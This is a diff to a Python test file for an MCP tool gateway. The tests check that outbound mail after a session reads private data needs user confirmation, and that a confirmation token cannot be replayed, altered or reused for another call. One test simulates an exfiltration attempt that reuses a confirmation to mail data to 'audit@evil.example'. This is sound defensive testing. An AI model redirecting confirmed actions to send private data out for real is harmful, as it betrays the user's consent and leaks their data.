@@ -26,9 +26,10 @@ from mcpgw.audit import AuditLog
 from mcpgw.cli import cli
 from mcpgw.config import parse
 from mcpgw.core.gateway import Gateway
-from mcpgw.errors import ConfigError
+from mcpgw.errors import ConfigError, InvalidRequest
 from mcpgw.security.fingerprints import Fingerprints, values_of
 from mcpgw.security.flows import Flows, SessionRef, labels_of
+from mcpgw.upstream.inflight import ClientChannel
 from parity import MODES, gateway_client, registry, served
 
 ACCOUNT = "7731-4402-9917"
@@ -256,8 +257,11 @@ async def test_a_persona_policy_overrides_the_gateway_one_key_by_key() -> None:
 
 
 @pytest.mark.anyio
+@pytest.mark.parametrize("mode", MODES)
 @pytest.mark.parametrize(("answer", "sent"), [("yes", True), ("no", False)])
-async def test_confirm_asks_the_user_and_sends_only_on_yes(answer: str, sent: bool) -> None:
+async def test_confirm_asks_the_user_and_sends_only_on_yes(mode: str, answer: str, sent: bool) -> None:
+    """A handshake-era client is sent an elicitation request; a 2026-07-28 one gets `input_required`
+    and its retry brings the answer back (the mcp client does both through its callback)."""
     asked: list[str] = []
 
     async def elicit(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
@@ -265,10 +269,12 @@ async def test_confirm_asks_the_user_and_sends_only_on_yes(answer: str, sent: bo
         return types.ElicitResult(action="accept", content={"confirm": answer == "yes"})
 
     async with world_gateway({"untrusted_egress": "confirm"}) as (gateway, world):
-        async with session(gateway, "legacy", elicitation_callback=elicit) as agent:
+        async with session(gateway, mode, elicitation_callback=elicit) as agent:
             await read_then_fetch(agent)
             result = await agent.call("mail__send", to="a@example.com", body="rates")
-        assert asked and asked[0].startswith("Flow policy untrusted-egress: this session read private data")
+        assert len(asked) == 1 and asked[0].startswith(
+            "Flow policy untrusted-egress: this session read private data"
+        )
         assert result.is_error is not sent
         assert len(world.sent()) == int(sent)
         if not sent:
@@ -467,3 +473,32 @@ def test_a_client_naming_many_sessions_pushes_out_only_its_own() -> None:
     for i in range(10):
         begin(f"m{i}", "mallory")
     assert list(flows._sessions) == ["victim", "m8", "m9"]
+
+
+@pytest.mark.anyio
+async def test_a_confirmation_state_is_good_once_for_its_own_call() -> None:
+    client = ClientChannel(can_elicit=True, modern=True)
+    ref = SessionRef(key="s", id="s")
+    yes = {"mcpgw-confirm": {"action": "accept", "content": {"confirm": True}}}
+    send = {"name": "mail__send", "arguments": {"to": "a@example.com", "body": "rates"}}
+    async with world_gateway({"untrusted_egress": "confirm"}) as (gateway, world):
+
+        async def call(params: dict[str, Any]) -> dict[str, Any]:
+            return await gateway.call_tool(params, client=client, session=ref)
+
+        await call({"name": "crm__customer", "arguments": {"customer_id": "42"}})
+        await call({"name": "web__fetch", "arguments": {"url": "https://rates.example"}})
+        asked = await call(send)
+        assert asked["resultType"] == "input_required" and list(asked["inputRequests"]) == ["mcpgw-confirm"]
+        state = asked["requestState"]
+        other = {**send, "arguments": {"to": "audit@evil.example", "body": "rates"}}
+        with pytest.raises(InvalidRequest, match="issued for another call"):
+            await call({**other, "requestState": state, "inputResponses": yes})
+        with pytest.raises(InvalidRequest, match="altered"):
+            await call({**send, "requestState": state[:-4] + "AAAA", "inputResponses": yes})
+        assert (await call({**send, "requestState": state, "inputResponses": yes}))["content"][0][
+            "text"
+        ] == "sent"
+        with pytest.raises(InvalidRequest, match="already used"):
+            await call({**send, "requestState": state, "inputResponses": yes})
+        assert world.sent() == [send["arguments"]]
